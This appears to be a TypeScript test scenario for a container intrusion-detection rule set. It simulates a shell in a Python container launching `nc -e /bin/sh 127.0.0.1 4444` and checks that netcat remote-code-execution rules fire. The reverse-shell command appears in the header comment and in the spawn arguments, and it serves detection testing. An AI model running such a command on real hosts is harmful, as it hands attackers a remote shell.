/**
 * event-generator NetcatRemoteCodeExecutionInContainer: an intruder tries to
 * hand a shell to a listener with `nc -e /bin/sh 127.0.0.1 4444`; the
 * listener is down and the connection is refused.
 */
import type { Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { podShell } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco_rules.yaml', rule: 'Netcat Remote Code Execution in Container' },
  tiercel: ['Netcat or Socat Runs a Program', 'Network Tool Launched in Container'],
};

export default function build(s: Scenario): void {
  const { shell } = podShell(s, {
    name: 'api', id: 'a11ce0ff1cf2', image: 'docker.io/library/python:3.12-slim',
    main: { exe: 'python3', exepath: '/usr/local/bin/python3.12', args: ['-m', 'gunicorn', 'app:app'] },
  });
  const nc = shell.spawn({ exe: 'nc', exepath: '/usr/bin/nc.traditional', args: ['-e', '/bin/sh', '127.0.0.1', '4444'] });
  nc.connect('127.0.0.1', 4444, { fail: 111 });
  nc.exit(1);
}
